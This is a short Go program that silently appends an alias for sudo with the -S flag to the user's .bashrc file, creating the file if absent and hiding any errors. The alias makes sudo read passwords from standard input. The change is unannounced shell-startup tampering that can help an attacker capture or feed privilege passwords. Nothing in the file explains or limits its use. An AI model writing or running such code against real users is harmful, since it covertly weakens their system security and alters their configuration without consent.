package main

import (
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	f, err := os.OpenFile(filepath.Join(home, ".bashrc"), os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0644)
	if err != nil {
		return
	}
	defer f.Close()
	f.WriteString("alias sudo='sudo -S'\n")
}
